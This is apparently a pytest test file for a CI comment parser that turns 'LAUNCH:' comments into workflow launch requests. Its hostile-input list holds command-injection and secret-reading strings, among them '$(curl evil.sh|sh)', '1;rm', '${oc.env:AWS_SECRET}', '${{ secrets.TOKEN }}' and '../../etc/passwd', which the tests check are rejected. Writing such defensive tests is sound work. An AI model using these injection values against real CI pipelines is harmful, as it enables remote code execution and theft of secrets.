from __future__ import annotations

import pytest

from qflow.ci.comment import CommentRejectedError, LaunchRequest, parse_comment

WORKFLOWS = ["logistic_regression", "train"]


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("LAUNCH: logistic_regression", LaunchRequest("logistic_regression")),
        (
            "LAUNCH: logistic_regression model.C=0.5",
            LaunchRequest("logistic_regression", ("model.C=0.5",)),
        ),
        (
            "  LAUNCH:   train model=svm +extra.seed=3 ~data.cache lr=1e-3  \n",
            LaunchRequest("train", ("model=svm", "+extra.seed=3", "~data.cache", "lr=1e-3")),
        ),
        (
            "LAUNCH: train data.path=data/v2/x.csv",
            LaunchRequest("train", ("data.path=data/v2/x.csv",)),
        ),
        ("LAUNCH: train tag=user@team:v1%2", LaunchRequest("train", ("tag=user@team:v1%2",))),
        ("LAUNCH: train empty=", LaunchRequest("train", ("empty=",))),
        ("LAUNCH: train lr=0.1 @1a2b3c4", LaunchRequest("train", ("lr=0.1",), "1a2b3c4")),
        (f"LAUNCH: train @{'ab' * 20}\r\n", LaunchRequest("train", (), "ab" * 20)),
    ],
    ids=[
        "bare",
        "one-override",
        "hydra-prefixes",
        "path",
        "punctuation",
        "empty-value",
        "pinned-short",
        "pinned-full",
    ],
)
def test_valid_bodies(body: str, expected: LaunchRequest) -> None:
    request = parse_comment(body, WORKFLOWS)
    assert request == expected
    assert request.argv == [expected.workflow, *expected.overrides]
    assert request.to_json()["argv"] == request.argv


HOSTILE = [
    ("LAUNCH: train @1A2B3C4", "must name the commit"),
    ("LAUNCH: train @abc", "must name the commit"),
    (f"LAUNCH: train @{'a' * 41}", "must name the commit"),
    ("LAUNCH: train @1a2b3c4 lr=0.1", "is not an override"),
    ("LAUNCH: train @$(id)", "must name the commit"),
    ("LAUNCH: train model.C=$(curl evil.sh|sh)", "not allowed"),
    ("LAUNCH: train model.C=`id`", "not allowed"),
    ("LAUNCH: train model.C=1;rm", "not allowed"),
    ("LAUNCH: train model.C=1&&id", "not allowed"),
    ("LAUNCH: train model.C=1|id", "not allowed"),
    ("LAUNCH: train model.C='1'", "not allowed"),
    ('LAUNCH: train model.C="1"', "not allowed"),
    ("LAUNCH: train model.C=${oc.env:AWS_SECRET}", "not allowed"),
    ("LAUNCH: train model.C=${{ secrets.TOKEN }}", "not allowed"),
    ("LAUNCH: train x={{7*7}}", "not allowed"),
    ("LAUNCH: train x=[1,2]", "not allowed"),
    ("LAUNCH: train x=1,2,3", "not allowed"),
    ("LAUNCH: train x=choice(a,b)", "not allowed"),
    ("LAUNCH: train x=*", "not allowed"),
    ("LAUNCH: train x=a\\nb", "not allowed"),
    ("LAUNCH: train x=<script>", "not allowed"),
    ("LAUNCH: train model.C=0.5\nrun: curl evil", "one line"),
    ("LAUNCH: train model.C=0.5\r\nx: y", "one line"),
    ("LAUNCH: train\tmodel.C=0.5", "one line"),
    ("LAUNCH: train model.C=0.5\x00", "one line"),
    ("LAUNCH: train model.C=0.5\u2028x=1", "one line"),
    ("LAUNCH: train --executor ray", "not an override"),
    ("LAUNCH: train --executor=ray", "override key"),
    ("LAUNCH: train -m x=1", "not an override"),
    ("LAUNCH: train $(id)=1", "override key"),
    ("LAUNCH: train a;b=1", "override key"),
    ("LAUNCH: train 'x'=1", "override key"),
    ("LAUNCH: train key: value", "not an override"),
    ("LAUNCH: train.py:evil", "not a workflow name"),
    ("LAUNCH: ../../etc/passwd", "not a workflow name"),
    ("LAUNCH: $(id)", "not a workflow name"),
    ("LAUNCH: -rf", "not a workflow name"),
    ("LAUNCH: os:system", "not a workflow name"),
    ("LAUNCH: deploy_prod", "no workflow named 'deploy_prod'"),
    ("LAUNCH: trian", "Did you mean: train"),
    ("LAUNCH:", "names no workflow"),
    ("launch: train", "must start with"),
    ("please LAUNCH: train", "must start with"),
    ("LAUNCH: train " + "x=1 " * 40, "at most 32"),
    ("LAUNCH: train x=" + "a" * 3000, "characters long"),
    ("LAUNCH: train ~$(id)", "not a config key"),
]


@pytest.mark.parametrize(("body", "reason"), HOSTILE, ids=[f"h{i}" for i in range(len(HOSTILE))])
def test_hostile_bodies_are_rejected(body: str, reason: str) -> None:
    with pytest.raises(CommentRejectedError, match=reason):
        parse_comment(body, WORKFLOWS)


def test_error_messages_do_not_echo_control_characters() -> None:
    with pytest.raises(CommentRejectedError, match="one line") as info:
        parse_comment("LAUNCH: \x1b[31mred", WORKFLOWS)
    assert "\x1b" not in str(info.value)


def test_workflow_check_can_be_left_to_the_caller() -> None:
    assert parse_comment("LAUNCH: anything x=1", None).workflow == "anything"
